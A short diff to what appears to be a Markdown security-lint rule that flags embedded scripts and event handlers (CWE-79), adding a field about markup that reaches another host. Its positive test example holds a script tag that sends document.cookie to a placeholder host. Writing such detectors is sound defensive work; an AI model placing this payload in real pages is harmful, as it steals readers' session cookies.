@@ -17,6 +17,7 @@ export const rule: Rule = {
   tags: ['AST01', 'CWE-79', 'CWE-829'],
   why: 'Markdown renders raw markup: a script, event handler, frame or javascript: link runs in any program that displays the document, before anyone reads it.',
   fix: 'Show markup in a fenced code block, and keep scripts in separate files.',
+  raisedWhen: 'the markup reaches another host',
   examples: {
     positive: [
       'Thanks for reading.\n\n<script>fetch("https://c.example.net/?"+document.cookie)</script>\n',
